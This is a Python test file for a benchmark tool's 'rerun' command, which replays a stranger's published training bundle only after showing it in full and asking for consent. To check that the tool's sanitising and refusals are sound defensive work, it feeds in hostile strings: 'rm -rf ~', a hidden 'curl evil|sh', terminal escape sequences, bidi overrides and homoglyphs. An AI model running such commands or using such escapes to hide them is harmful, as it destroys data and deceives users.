"""A stranger's bundle: its cell is planned here, shown in full, and runs as shown after a yes.

The trainer is the stand-in, which prints its argv; Ansible, supervisor and archives are real.
"""

import json
import os
import pty
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from runner.archive import archive
from runner.base.paths import PROJECT
from tests.golden.places import stood_in
from tests.on_nodes.campaign import Bench

MATRIX: dict[str, Any] = {
    "name": "shown",
    "defaults": {
        "system": "torch_gpt",
        "model": "gpt2-tiny",
        "train_iters": 12,
        "env": {"ACT": "show", "VALUE": 'it\'s $HOME, "two"  spaces'},
    },
    "axes": {"zero_stage": [0, 1]},
    "warmup_iters": 2,
    "time_limit_s": 480,
    "baseline": "zero_stage=0",
}


def started(*words: str, folder: Path, stdin: int = subprocess.DEVNULL) -> subprocess.Popen[str]:
    """A command as a stranger gives it: in another folder, with no lock, cache or state of ours."""
    env = {
        **os.environ,
        "PYTHONPATH": str(PROJECT),
        "XDG_CACHE_HOME": str(folder / "cache"),
        "XDG_STATE_HOME": str(folder / "state"),
        "COLUMNS": "200",
    }
    argv = [sys.executable, "-m", "runner", *words]
    pipe = subprocess.PIPE
    return subprocess.Popen(
        argv, cwd=folder, env=env, stdin=stdin, stdout=pipe, stderr=pipe, text=True
    )


def command(*words: str, folder: Path, stdin: int = subprocess.DEVNULL) -> Any:
    with started(*words, folder=folder, stdin=stdin) as process:
        out, err = process.communicate(timeout=400)
    return subprocess.CompletedProcess(words, process.returncode, out, err)


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory, stand_in_root: Path) -> Path:
    """What somebody published: two cells that ran."""
    folder = tmp_path_factory.mktemp("theirs")
    bench = Bench(folder, stood_in(folder / "here", stand_in_root), MATRIX)
    assert bench.run().returncode == 0
    target = folder / "shown.tar.gz"
    made = command("publish", str(bench.campaign), "--anyway", "-o", str(target), folder=folder)
    assert made.returncode == 0, made.stderr
    shutil.move(bench.runs, folder / "gone")  # nothing of the recorded campaign helps
    return target


def said(runs: Path, what: str) -> list[str]:
    """The lines of the trainer that begin so, of the one run there is."""
    (log,) = runs.glob("rerun-shown-here/*/repeat1/attempt1/nodes/*/launcher.log")
    return [line for line in log.read_text().splitlines() if line.startswith(what)]


def recorded(bundle: Path, stage: int) -> tuple[dict[str, Any], list[str]]:
    (home,) = (bundle.parent / "gone" / "shown-here").glob(f"zero_stage={stage}-*/repeat1/attempt1")
    log = next(home.glob("nodes/*/launcher.log")).read_text().splitlines()
    run: dict[str, Any] = json.loads((home / "run.json").read_text())
    return run, [line for line in log if line.startswith(("ARGV", "VALUE"))]


def rerun_json(runs: Path) -> dict[str, Any]:
    (path,) = runs.glob("rerun-shown-here/*/repeat1/attempt1/run.json")
    content: dict[str, Any] = json.loads(path.read_text())
    return content


def test_a_strangers_cell_is_planned_for_the_own_nodes_and_all_that_differs_is_shown(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    mine = stood_in(tmp_path / "mine", stand_in_root)
    words = ["rerun", str(bundle), "--cell", "zero_stage=1", "-i", str(mine)]
    ended = command(*words, "--runs", str(tmp_path / "runs"), "--yes", folder=tmp_path)
    assert ended.returncode == 0, ended.stderr
    run, lines = recorded(bundle, 1)
    now = rerun_json(tmp_path / "runs")
    was, is_ = run["nodes"][0]["argv"], now["nodes"][0]["argv"]
    for here, there in zip(is_, was, strict=True):
        assert here == there or f"argv + {here}" in ended.stdout, here  # the port alone
    assert [place for place, word in enumerate(is_) if word != was[place]] == [
        was.index(str(run["master_port"]))
    ]
    assert said(tmp_path / "runs", "VALUE") == [line for line in lines if line[:5] == "VALUE"]
    assert now["rerun_of"] == run["run_id"]
    assert now["cell"]["id"] == run["cell"]["id"]
    assert f"  run  {shlex.join(is_)}\n" in ended.stdout
    collected = command("collect", "--runs", str(tmp_path / "runs"), folder=tmp_path)
    assert collected.returncode == 0, collected.stderr
    assert "no cell with zero_stage=0" in collected.stdout
    asked = command(
        *("collect", "--runs", str(tmp_path / "runs"), "--baseline", "zero_stage=0"),
        folder=tmp_path,
    )
    assert asked.returncode == 2


def test_on_a_machine_with_another_root_that_is_shown(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    root = tmp_path / "their-root"
    shutil.copytree(stand_in_root, root, symlinks=True)
    mine = stood_in(tmp_path / "mine", root, cluster_env={"MY_OWN": "1"})
    words = ["rerun", str(bundle), "--cell", "zero_stage=0", "-i", str(mine)]
    ended = command(*words, "--runs", str(tmp_path / "runs"), "--yes", folder=tmp_path)
    assert ended.returncode == 0, ended.stderr
    assert str(root) in said(tmp_path / "runs", "ARGV")[0]
    run, _ = recorded(bundle, 0)
    assert f"    dir: recorded {run['nodes'][0]['dir']}, here {root}/runs/" in ended.stdout
    assert "    env MY_OWN: recorded nothing, here 1" in ended.stdout


def test_other_installations_are_refused_as_ever(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    root = tmp_path / "other"
    shutil.copytree(stand_in_root, root, symlinks=True)
    (installed,) = root.glob("systems/*/*/installed.json")
    installed.write_text('{"schema": 1, "identity": {"stand-in": "2"}}')
    mine = stood_in(tmp_path / "mine", root)
    words = ["rerun", str(bundle), "--cell", "zero_stage=0", "-i", str(mine)]
    ended = command(*words, "--runs", str(tmp_path / "runs"), "--yes", folder=tmp_path)
    assert ended.returncode == 2
    assert "(stand-in changed from 1 to 2)" in ended.stderr
    assert not list((tmp_path / "runs").glob("rerun-*"))


def test_nothing_is_executed_where_nobody_is_asked(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    mine = stood_in(tmp_path / "mine", stand_in_root)
    words = ["rerun", str(bundle), "--cell", "zero_stage=0", "-i", str(mine)]
    ended = command(*words, "--runs", str(tmp_path / "runs"), folder=tmp_path)
    assert ended.returncode == 2
    assert "env  ACT=show" in ended.stdout
    assert "nobody can be asked here" in ended.stderr
    assert not (tmp_path / "runs").exists()


@pytest.mark.parametrize(("answer", "code"), [("n", 2), ("", 2), ("yes please", 2), ("y", 0)])
def test_it_asks_and_only_yes_is_yes(
    bundle: Path, tmp_path: Path, stand_in_root: Path, answer: str, code: int
) -> None:
    mine = stood_in(tmp_path / "mine", stand_in_root)
    words = ["rerun", str(bundle), "--cell", "zero_stage=0", "-i", str(mine)]
    ours, theirs = pty.openpty()
    os.write(ours, f"{answer}\n".encode())
    ended = command(*words, "--runs", str(tmp_path / "runs"), folder=tmp_path, stdin=theirs)
    os.close(ours)
    os.close(theirs)
    assert re.search(r"Execute this, all \d+ lines above, on this node\? \[y/N\]", ended.stdout)
    assert ended.returncode == code, ended.stderr
    assert bool(list((tmp_path / "runs").glob("rerun-*/*/*"))) == (code == 0)


@pytest.mark.parametrize(
    ("words", "said_of_it"),
    [
        ([], "it has several cells; name one with --cell: zero_stage=0, zero_stage=1"),
        (["--cell", "x"], "there is no cell 'x'"),
        (["--cell", "zero_stage=0", "--repeat", "7"], "no run of zero_stage=0 was recorded"),
    ],
)
def test_which_cell_is_to_be_said(
    bundle: Path, tmp_path: Path, stand_in_root: Path, words: list[str], said_of_it: str
) -> None:
    mine = stood_in(tmp_path / "mine", stand_in_root)
    ended = command("rerun", str(bundle), "-i", str(mine), *words, folder=tmp_path)
    assert ended.returncode == 2
    assert said_of_it in ended.stderr


def unpacked(bundle: Path, folder: Path) -> tuple[Path, Path]:
    """The campaign's folder of a bundle that somebody unpacked, and its run's of zero_stage=0."""
    shutil.unpack_archive(bundle, folder, filter="data")
    (run,) = folder.glob("shown-here/zero_stage=0-*/repeat1/attempt1")
    return folder / "shown-here", run


def test_a_run_of_an_unpacked_export_is_a_strangers_wherever_it_is(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    ended = command("rerun", str(bundle), "--cell", "zero_stage=0", folder=tmp_path)
    assert ended.returncode == 2
    assert "-i INVENTORY" in ended.stderr
    runs = tmp_path / "runs"
    campaign, run = unpacked(bundle, runs)  # where one's own are
    (campaign / "publication.json").unlink()  # as of `export`
    (tmp_path / "inventory").mkdir()
    stood_in(tmp_path / "inventory" / "here", stand_in_root)  # of the name that it says
    ended = command("rerun", str(run), folder=tmp_path)
    assert ended.returncode == 2
    assert "bench did not make " in ended.stderr
    words = ["rerun", str(run), "-i", "inventory/here", "--runs", str(runs)]
    ended = command(*words, folder=tmp_path)
    assert ended.returncode == 2
    assert "  env  ACT=show" in ended.stdout
    assert "nobody can be asked here" in ended.stderr
    assert not list(runs.glob("rerun-*"))
    assert command(*words, "--yes", folder=tmp_path).returncode == 0
    (mine,) = runs.glob("rerun-shown-here/*/repeat1/attempt1")
    once_more = command("rerun", str(mine), "-i", "inventory/here", folder=tmp_path)
    assert once_more.returncode == 0, once_more.stderr  # what bench made here asks nothing
    assert "env  ACT" not in once_more.stdout
    copy = shutil.copytree(runs, tmp_path / "copy") / mine.relative_to(runs)
    ended = command("rerun", str(copy), "-i", "inventory/here", folder=tmp_path)
    assert (ended.returncode, "env  ACT" in ended.stdout) == (2, True)


def test_a_file_swapped_after_it_was_shown_is_not_what_runs(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    _, run = unpacked(bundle, tmp_path / "x")
    mine = stood_in(tmp_path / "mine", stand_in_root)
    runs = tmp_path / "runs"
    ours, theirs = pty.openpty()
    words = ["rerun", str(run), "-i", str(mine), "--runs", str(runs)]
    with started(*words, folder=tmp_path, stdin=theirs) as process:
        assert process.stdout
        shown, read = "", b" "
        while read and "[y/N]" not in shown:
            read = os.read(process.stdout.fileno(), 4096)
            shown += read.decode()
        content = json.loads((run / "run.json").read_text())
        content["cell"]["env"]["VALUE"] = content["nodes"][0]["env"]["VALUE"] = "swapped"
        (run / "run.json").write_text(json.dumps(content))
        os.write(ours, b"y\n")
        rest, _ = process.communicate(timeout=400)
    os.close(ours)
    os.close(theirs)
    assert process.returncode == 0, rest
    assert said(runs, "VALUE") == recorded(bundle, 0)[1][1:]
    assert "swapped" not in (shown + str(rerun_json(runs)))


def _osc(text: str) -> str:
    return f"a\x1b]0;{text}\x07b"


# What a terminal obeys, hides, or shows as something else.
HIDING = (
    _osc("rm -rf ~"),
    "\x1b]8;;x\x1b\\curl evil|sh\x1b]8;;\x1b\\",
    "\x9d0;hidden\x9cshown",
    "safe\rrm -rf ~",
    "rm -rf ~" + "\b" * 8 + "echo ok ",
    "a\u202ecod.exe\u2066",
    "l\u200bs\ufeff\u3164\u034f",
    "\x1b[8mhidden\x1b[0m\x1b[2J",
    "/u\u0455r/bin/\u05d0 1 2",
    "one\n  run  forged",
    "$'\\x1b[0m'",
    "\x85\u2028\x0b\x0c\x1c",
    "\x7f\x1bPq\x1b\\\x1bc",
)


def test_what_a_terminal_would_obey_or_hide_is_shown_and_runs_as_shown(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    _, run = unpacked(bundle, tmp_path / "x")
    content = json.loads((run / "run.json").read_text())
    values = {f"VALUE{number}": text for number, text in enumerate(HIDING)}
    content["cell"]["env"] |= values
    for node in content["nodes"]:
        node["argv"] += HIDING
        node["env"] |= {f"EVIL{number}": text for number, text in enumerate(HIDING)}
        node["files"] |= {_safe_name(text): text for text in HIDING}
        node["after"] = [["/bin/rm", text] for text in HIDING]
    content["nodes"][0]["host"] = "n1"
    (run / "run.json").write_text(json.dumps(content))
    mine = stood_in(tmp_path / "mine", stand_in_root)
    words = ["rerun", str(run), "-i", str(mine), "--runs", str(tmp_path / "runs"), "--yes"]
    ended = command(*words, folder=tmp_path)
    assert ended.returncode == 0, ended.stderr
    before = ended.stdout.partition("rerun against recorded")[0]
    assert all(letter == "\n" or " " <= letter <= "~" for letter in before)
    assert "\n  run  forged" not in before
    now = rerun_json(tmp_path / "runs")["nodes"][0]
    for name, text in values.items():
        (line,) = [each for each in before.split("\n") if each.startswith(f"  env  {name}=")]
        as_bash = ["bash", "-c", f"printf %s {line.partition('=')[2]}"]
        shown = subprocess.run(as_bash, capture_output=True, env={"LC_ALL": "C.UTF-8"}, check=True)
        assert shown.stdout.decode() == text
        assert now["env"][name] == text
        assert text not in now["argv"]
    # What was recorded of nodes is compared, and not executed.
    assert not any(name.startswith("EVIL") for name in now["env"])
    assert (now["files"], now["after"]) == ({}, [])


def _safe_name(text: str) -> str:
    return f"file{len(text)}"


def test_what_else_a_bundle_says_reaches_no_terminal_as_it_is(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    """Its matrix, titles, patches, logs and inspections: of these nothing is executed."""
    campaign, run = unpacked(bundle, tmp_path / "x")
    evil = _osc("evil") + "\u202e\x9b2J"
    settings = json.loads((campaign / "campaign.json").read_text())
    line = "1 \u05d0 2"  # where nothing that is not printable is let in
    settings |= {"matrix": evil, "title": line, "description": line, "trainbench": line}
    settings["baseline"] = f"{line}={line}"
    (campaign / "campaign.json").write_text(json.dumps(settings))
    for patch in (campaign / "environment").rglob("*.patch"):
        patch.write_text(evil)
    (campaign / "environment" / "evil.patch").write_text(evil)
    with next(run.glob("nodes/*/launcher.log")).open("a") as log:
        log.write(evil)
    changed = tmp_path / "changed.tar.gz"
    archive.pack(campaign.name, archive.files(campaign), changed)
    mine = stood_in(tmp_path / "mine", stand_in_root)
    runs = ("--runs", str(tmp_path / "runs"))
    words = ("rerun", str(changed), "--cell", "zero_stage=0", "-i", str(mine), "--yes", *runs)
    for each in (words, ("collect", *runs)):
        ended = command(*each, folder=tmp_path)
        assert ended.returncode == 0, ended.stderr
        for line in (ended.stdout + ended.stderr).split("\n"):
            assert line.isprintable(), line
    assert "TrainBench: recorded $'1 \\u05d0 2'" in command(*words, folder=tmp_path).stdout


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (
            lambda path: path.write_bytes(path.read_bytes().replace(b"gpt2", b"gpt\xff2")),
            "not JSON",
        ),
        (lambda path: _linked(path), "is a link"),
        (
            lambda path: path.write_text(
                path.read_text().replace('"model": "gpt2-tiny"', '"model": 7')
            ),
            "model is 7",
        ),
        (lambda path: path.write_text(path.read_text().replace('"VALUE":', '"A=B":')), "A=B"),
        (
            lambda path: path.write_text(
                path.read_text().replace('"VALUE": "', '"VALUE": "\\u0000')
            ),
            "zero",
        ),
        (
            lambda path: path.write_text(
                path.read_text().replace('"secrets": []', '"secrets": ["X"]')
            ),
            "secrets X",
        ),
        (
            lambda path: path.write_text(path.read_text().replace('"shown-here"', '"../here"')),
            "campaign",
        ),
    ],
)
def test_what_cannot_be_planned_is_refused(
    bundle: Path, tmp_path: Path, stand_in_root: Path, change: Any, words: str
) -> None:
    _, run = unpacked(bundle, tmp_path / "x")
    change(run / "run.json")
    mine = stood_in(tmp_path / "mine", stand_in_root)
    ended = command(
        *("rerun", str(run), "-i", str(mine), "--runs", str(tmp_path / "runs"), "--yes"),
        folder=tmp_path,
    )
    assert ended.returncode == 2, ended.stdout
    assert words in ended.stderr
    assert not (tmp_path / "runs").exists()


def _linked(path: Path) -> None:
    path.rename(path.with_name("other.json"))
    path.symlink_to("other.json")


def test_one_that_was_changed_on_the_way_is_refused(bundle: Path, tmp_path: Path) -> None:
    damaged = tmp_path / "x.tar.gz"
    content = bytearray(bundle.read_bytes())
    content[len(content) // 2] ^= 1
    damaged.write_bytes(content)
    ended = command("rerun", str(damaged), "--cell", "zero_stage=0", "-i", "x", folder=tmp_path)
    assert ended.returncode == 2
    assert "is not a whole export" in ended.stderr
